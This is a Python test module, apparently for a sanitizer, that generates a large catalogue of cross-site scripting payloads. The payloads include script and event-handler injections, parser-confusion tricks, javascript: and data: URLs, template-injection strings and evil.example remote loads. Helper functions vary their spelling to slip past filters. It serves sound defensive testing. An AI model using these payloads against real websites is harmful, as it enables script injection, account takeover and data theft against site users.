"""Texts that try to become scripts: families of tricks, each in many spellings.

After the ideas of OWASP's filter-evasion list and the advisories on bleach and
nh3. What runs says so: it sets ``window.flexidXss``, or opens a dialog.
"""

import re
from collections.abc import Callable, Iterator

CODES = ("window.flexidXss=1", "alert(1)")

# "@" is the code, "¶" a line end. What runs in a frame calls the code in its parent.
SCRIPTS = """
<script>@</script>
<script¶>@</script\t>
<script/x>@</script/x>
<script type=module>@</script>
<script src=data:text/javascript,@></script>
<scr<script>ipt>@</scr</script>ipt>
<<script>@//<</script>
<script>@//
<svg><script>@</script></svg>
<svg><script href=data:text/javascript,@ />
<math><script>@</script></math>
<img \"""><script>@</script>">
<?x?><script>@</script>
<![CDATA[<script>@</script>]]>
<!--><script>@</script>-->
<!--[if gte IE 4]><script>@</script><![endif]-->
<scr\0ipt>@</scr\0ipt>
\ufeff<script>@</script>
\u202e<script>@</script>\u202c
<\u017fcript>@</\u017fcript>
\uff1cscript\uff1e@\uff1c/script\uff1e
+ADw-script+AD4-@+ADw-/script+AD4-
%3Cscript%3E@%3C/script%3E
&lt;script&gt;@&lt;/script&gt;
&amp;lt;script&amp;gt;@
\\x3cscript\\x3e@\\u003c/script\\u003e
\U0001d4c8cript \U0001f942\U0001f469\u200d\U0001f467<script>@</script>
"""
HANDLERS = """
<img src=x: onerror=@>
<img/src="x:"/onerror=@>
<img src=`x:` onerror=@>
<img src=x:¶onerror¶=¶@>
<img src='x:'onerror='@'
<image src=x: onerror=@>
<svg onload=@>
<svg/onload=@//
<body onload=@>
<body onpageshow=@>
<frameset onload=@>
<details open ontoggle=@>
<video><source onerror=@></video>
<audio src=x: onerror=@>
<input autofocus onfocus=@>
<select autofocus onfocus=@>
<x tabindex=1 autofocus onfocus=@>
<p/onmouseover=@>x</p>
<p onpointerover=@ style=position:fixed;inset:0>
<style onload=@></style>
<link rel=stylesheet href=data:text/css, onload=@>
<object data=x: onerror=@>
<marquee onstart=@>
<p id=x popover onbeforetoggle=@><button popovertarget=x>x</button>
<p hidden=until-found onbeforematch=@>x</p>
<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=@>
<svg><animate onbegin=@ attributeName=x dur=1s>
<svg><set onbegin=@ attributeName=x to=y>
<svg><a xlink:href="javascript:@"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href to=javascript:@ /><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x><image href=x: onerror=@ /></svg>#x"/></svg>
<svg><foreignObject><img src=x: onerror=@></foreignObject></svg>
<svg><style><img src=x: onerror=@></style></svg>
<svg><![CDATA[><img src=x: onerror=@>]]></svg>
<svg></p><title><style><img title="</style><img src=x: onerror=@>"></style></title>
<math href="javascript:@">x</math>
<math><mtext><table><mglyph><style><img src=x: onerror=@>
<math><annotation-xml encoding=text/html><img src=x: onerror=@></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=@>
<table><td><svg><desc><table><s><style><img src=x: onerror=@>
"""
CONTAINERS = """
<noscript><p title="</noscript><img src=x: onerror=@>">
<textarea><p title="</textarea><img src=x: onerror=@>">
<title><p title="</title><img src=x: onerror=@>">
<style><p title="</style><img src=x: onerror=@>">
<noembed><p title="</noembed><img src=x: onerror=@>">
<xmp><p title="</xmp><img src=x: onerror=@>">
<iframe><p title="</iframe><img src=x: onerror=@>">
<select><template><style><!--</style><a rel="--></style></template><img src=x: onerror=@>">
<template><script>@</script></template>
<p><template shadowrootmode=open><script>@</script></template></p>
<!--<img src="--><img src=x: onerror=@>">
<!-- --!><img src=x: onerror=@>
<!DOCTYPE x [<!ENTITY y "<img src=x: onerror=@>">]>
</p></div></main></body></html><img src=x: onerror=@>
<iframe src="javascript:parent.@"></iframe>
<iframe srcdoc="<script>parent.@</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.@&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<script>parent.@</script>"></iframe>
<object data="javascript:@"></object>
<object data="data:text/html,<script>parent.@</script>"></object>
<embed src="javascript:@">
<meta http-equiv=refresh content="0;url=javascript:@">
<meta http-equiv=refresh content="0;url=data:text/html,<script>@</script>">
<meta http-equiv=set-cookie content="x=@">
<base href="javascript:@//">
<base href=//evil.example target=_top>
<link rel=stylesheet href=//evil.example/@.css>
<style>@import'javascript:@';</style>
<p style="width:expression(@)">x</p>
<p style="background:url(javascript:@)">x</p>
<p style="-moz-binding:url(//evil.example/x.xml)">@</p>
<table background="javascript:@"><td>x
<form action="javascript:@"><input type=submit autofocus></form>
<form id=f></form><button form=f formaction="javascript:@">x</button>
<isindex action="javascript:@" type=image>
<form id=FlexId><input name=ask value=@></form>
<a id=FlexId><a id=FlexId name=ask href=javascript:@>x</a>
"""
ADDRESSES = """
<a href="javascript:@">x</a>
<a href="\x01 javascript:@">x</a>
<a href=javascript://%0a@>x</a>
<a href="jav&#x09;ascript&colon;@">x</a>
<a href="feed:javascript:@">x</a>
<a href="view-source:javascript:@">x</a>
<a href="vbscript:@">x</a>
<a href="data:text/html,<script>@</script>">x</a>
<a href="blob:https://x.example/@">x</a>
<a href=//evil.example/@>x</a>
<a href=\\\\evil.example/@>x</a>
<a href=https:/evil.example/@>x</a>
<a href="http://x.example/@">x</a>
<a href=https://x.example onclick=@ ping=//evil.example target=_top>x</a>
<a href="https://x.example/"style="x:y"onpointerover="@">x</a>
<area href="javascript:@"><map><area href="javascript:@">
"""
OTHER_LANGUAGES = """
[x](javascript:@)
[x](<javascript:@>)
![x](javascript:@)
<javascript:@>
<https://x.example/"onpointerover="@>
[x][r]¶¶[r]: javascript:@
[x][s]¶¶[s]: <data:text/html,<script>@</script>> "@"
[x](//evil.example/@)
[x](data:text/html,<script>@</script>)
[x](java\u200bscript:@)
[x](javascript&colon;@)
[x](https://x.example "onpointerover=@")
[x](https://x.example '"><script>@</script>')
[<img src=x: onerror=@>](https://x.example)
![x" onerror="@](x:)
`<script>@</script>`
```"><script>@</script>¶<script>@</script>¶```
> <script>@</script>
    <script>@</script>
{{7*7}}@
{{constructor.constructor('@')()}}
{% load x %}{% debug %}@
{{ block.super }}{# @ #}
${@}
#{@}
<%= @ %>
';@;//
";@;//
\\";@;//
*/@/*
{names}{time}{name}@
{"__proto__":{"flexidXss":"@"}}
=HYPERLINK("javascript:@")
"""
FAMILIES = tuple(
    line.replace("¶", "\n")
    for group in (SCRIPTS, HANDLERS, CONTAINERS, ADDRESSES, OTHER_LANGUAGES)
    for line in group.strip("\n").split("\n")
)

# What a text may have to get out of first: an attribute, a box, a comment, a script.
OPENINGS = ("", '">', "'>", "</textarea>", "-->", "</script>")

Spelling = Callable[[str], str]


def shouted(family: str) -> str:
    """Every second letter large, but for the code."""
    pieces = re.split(r"((?:parent\.)?@)", family)
    return "".join(one if number % 2 else _mixed(one) for number, one in enumerate(pieces))


def _mixed(text: str) -> str:
    return "".join(letter.upper() if at % 2 else letter for at, letter in enumerate(text))


def split_with(inside: str) -> Spelling:
    """The words that filters look for, with something in the middle that browsers may pass over."""
    return lambda family: re.sub(r"(?<=java|.scr)(?=script|ipt)", inside, family)


def swapped(family: str) -> str:
    """The other quotation marks."""
    return family.translate(str.maketrans("\"'", "'\""))


def slashed(family: str) -> str:
    """Slashes for the blanks between attributes."""
    return re.sub(r" (?=[\w:-]+=)", "/", family)


def escaped(family: str) -> str:
    """The scheme in character references."""
    return family.replace("javascript:", "&#106;&#x61vascript&colon;")


SPELLINGS: tuple[Spelling, ...] = (
    *(str, shouted, swapped, slashed, escaped),
    *map(split_with, ("\t", "\n", "\0", "\u200b", "&Tab;", "&NewLine;", "<!-- -->")),
)


def every(openings: tuple[str, ...] = OPENINGS) -> tuple[str, ...]:
    """All of them, each once."""
    made = (
        opening + spell(family).replace("@", code)
        for code in CODES
        for opening in openings
        for spell in SPELLINGS
        for family in FAMILIES
    )
    return tuple(dict.fromkeys(made))


def one_of_each() -> tuple[str, ...]:
    """One of each family as it stands; the codes take turns."""
    return tuple(family.replace("@", CODES[at % 2]) for at, family in enumerate(FAMILIES))


def joined(limit: int) -> Iterator[str]:
    """One of each family in few texts of at most so many characters."""
    text = ""
    for one in one_of_each():
        if len(text) + len(one) >= limit:
            yield text
            text = ""
        text += one + "\n"
    yield text
